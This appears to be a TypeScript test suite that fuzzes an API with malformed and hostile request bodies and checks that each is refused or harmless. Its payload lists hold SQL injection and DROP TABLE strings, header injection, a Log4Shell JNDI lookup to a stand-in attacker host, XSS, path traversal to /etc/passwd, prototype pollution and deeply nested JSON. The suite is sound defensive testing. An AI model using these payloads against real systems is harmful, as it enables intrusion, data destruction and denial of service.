import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type Attack,
  type Hostile,
  HostileApi,
  isHarmless,
  isRefusal,
  secret,
} from '../testing/hostile-api.js';
import { bodySchemaOf, fieldsOf, type Operation, sampleOf } from '../testing/sample-request.js';

/** Hundreds of requests each: on a busy machine they take their time. */
const timeout = 60_000;

let api: HostileApi;

beforeAll(async () => {
  api = await HostileApi.create();
});

afterAll(async () => {
  await api[Symbol.asyncDispose]();
});

const wrongTypes: readonly unknown[] = [null, 7, -1.5, true, 'text', '', [], {}, ['text'], { a: 1 }];

function typesOf(schema: object): ReadonlySet<unknown> {
  const { anyOf, type } = schema as { anyOf?: readonly object[]; type?: unknown };
  return new Set([...[type].flat(), ...(anyOf ?? []).flatMap((choice) => [...typesOf(choice)])]);
}

function jsonTypesOf(value: unknown): readonly string[] {
  if (value === null) return ['null'];
  if (Array.isArray(value)) return ['array'];
  return typeof value === 'number' ? ['number', 'integer'] : [typeof value];
}

/** Every field of a body that is wrong in one way, the others being right. */
function wrongFields(operation: Operation): readonly Attack[] {
  const schema = bodySchemaOf(operation);
  if (schema === undefined) return [];
  const right = sampleOf(schema) as Readonly<Record<string, unknown>>;
  const attack = (what: string, body: unknown): Attack => ({
    operation,
    what,
    hostile: { body: JSON.stringify(body) },
  });
  return [...fieldsOf(schema)].flatMap(([name, field]) => {
    const taken = typesOf(field);
    const values = wrongTypes.filter((value) => !jsonTypesOf(value).some((type) => taken.has(type)));
    const { maxLength } = field;
    const long = typeof maxLength === 'number' ? ['x'.repeat(maxLength + 1)] : [];
    const required: readonly unknown[] = Array.isArray(schema['required']) ? schema['required'] : [];
    const rest = Object.fromEntries(Object.entries(right).filter(([each]) => each !== name));
    return [
      ...[...values, ...long].map((value) =>
        attack(`${name} is ${JSON.stringify(value).slice(0, 40)}`, { ...right, [name]: value }),
      ),
      ...(required.includes(name) ? [attack(`${name} is missing`, rest)] : []),
    ];
  });
}

const injections = [
  "' OR '1'='1' --",
  `'; DROP TABLE "user"; --`,
  '1; SELECT pg_sleep(10)',
  'a\r\nSet-Cookie: a=b\r\nX-Evil: 1',
  '\u0000\u0001\u001b[31m',
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '%s%s%n',
  '\ud800',
  '💥'.repeat(40),
  'constructor',
  '__proto__',
];

function injectedFields(operation: Operation): readonly Attack[] {
  const schema = bodySchemaOf(operation);
  if (schema === undefined) return [];
  const right = sampleOf(schema) as object;
  return [...fieldsOf(schema).keys()].flatMap((name) =>
    injections.map((text) => ({
      operation,
      what: `${name} is ${JSON.stringify(text)}`,
      hostile: { body: JSON.stringify({ ...right, [name]: text }) },
    })),
  );
}

const depth = 10_000;
/** Bodies that are wrong wherever they are sent. */
const wrongBodies: readonly (readonly [what: string, hostile: Hostile])[] = [
  ['nested lists', { body: '['.repeat(depth) + ']'.repeat(depth) }],
  ['nested objects', { body: '{"a":'.repeat(depth) + '1' + '}'.repeat(depth) }],
  ['a huge text', { body: JSON.stringify({ name: 'x'.repeat(1_000_000) }) }],
  [
    'a huge number of fields',
    { body: JSON.stringify(Object.fromEntries(Array.from({ length: 20_000 }, (_, i) => [`a${i}`, 1]))) },
  ],
  ['half of a JSON', { body: `{"password":"${secret}` }],
  ['no JSON', { body: secret }],
  ['a list', { body: '[]' }],
  ['a text', { body: `"${secret}"` }],
  ['a number', { body: '7' }],
  ['another prototype', { body: `{"__proto__":{"isAdmin":true,"password":"${secret}"}}` }],
  ['another constructor', { body: '{"constructor":{"prototype":{"isAdmin":true}}}' }],
  [
    'a form',
    { body: `password=${secret}`, headers: { 'content-type': 'application/x-www-form-urlencoded' } },
  ],
  ['XML', { body: `<a>${secret}</a>`, headers: { 'content-type': 'application/xml' } }],
  ['text', { body: '{}', headers: { 'content-type': 'text/plain' } }],
  ['no type', { body: '{}', headers: { 'content-type': '' } }],
  ['a length that is none', { body: '{}', headers: { 'content-length': '99999999' } }],
];

/** Taken or not, they do no harm. */
const oddBodies: readonly (readonly [what: string, hostile: Hostile])[] = [
  ['the same name twice', { body: '{"name":"a","name":"b","password":"a","password":"b"}' }],
  [
    'a long charset',
    { body: '{}', headers: { 'content-type': `application/json; charset=${'x'.repeat(500)}` } },
  ],
  ['nothing', { body: '' }],
  ['spaces', { body: ' \n ' }],
  ['null', { body: 'null' }],
  ['a byte order mark', { body: '\ufeff{}' }],
  [
    'a field that nobody knows',
    { body: JSON.stringify({ [secret]: secret, toString: 1, hasOwnProperty: 1 }) },
  ],
];

describe('a hostile body', { timeout }, () => {
  const withBody = (): readonly Operation[] =>
    api.operations.filter((each) => bodySchemaOf(each) !== undefined);

  it('is refused when any field of it is wrong', async () => {
    const attacks = withBody().flatMap(wrongFields);
    expect(attacks.length).toBeGreaterThan(100);
    expect(await api.faultsOf(attacks, isRefusal)).toEqual([]);
  });

  it('is refused when it is wrong as a whole', async () => {
    const attacks = withBody().flatMap((operation) =>
      wrongBodies.map(([what, hostile]) => ({ operation, what, hostile })),
    );
    expect(await api.faultsOf(attacks, isRefusal)).toEqual([]);
  });

  it('does no harm when it is odd', async () => {
    const attacks = api.operations.flatMap((operation) =>
      oddBodies.map(([what, hostile]) => ({ operation, what, hostile })),
    );
    expect(await api.faultsOf(attacks, isHarmless)).toEqual([]);
  });

  it('cannot inject anything', async () => {
    expect(await api.faultsOf(withBody().flatMap(injectedFields), isHarmless)).toEqual([]);
    expect({}).not.toHaveProperty('isAdmin');
    expect((await api.server.app.inject('/ready')).statusCode).toBe(200);
  });

  it('does no harm, whatever it is', async () => {
    const targets = withBody();
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...targets),
        fc.jsonValue({ maxDepth: 4 }),
        async (operation, value) => {
          const attack = { operation, what: 'any value', hostile: { body: JSON.stringify(value) } };
          expect(await api.faultsOf([attack], isHarmless)).toEqual([]);
        },
      ),
      { numRuns: 200 },
    );
  });

  it('does no harm, whatever its fields are', async () => {
    const targets = withBody();
    const anything = fc.oneof(
      fc.string(),
      fc.integer(),
      fc.constant(null),
      fc.boolean(),
      fc.array(fc.string()),
    );
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...targets),
        fc.infiniteStream(anything),
        async (operation, values) => {
          const names = [...fieldsOf(bodySchemaOf(operation) ?? {}).keys()];
          const body = Object.fromEntries(names.map((name) => [name, values.next().value]));
          const attack = { operation, what: 'any fields', hostile: { body: JSON.stringify(body) } };
          expect(await api.faultsOf([attack], isHarmless)).toEqual([]);
        },
      ),
      { numRuns: 200 },
    );
  });
});
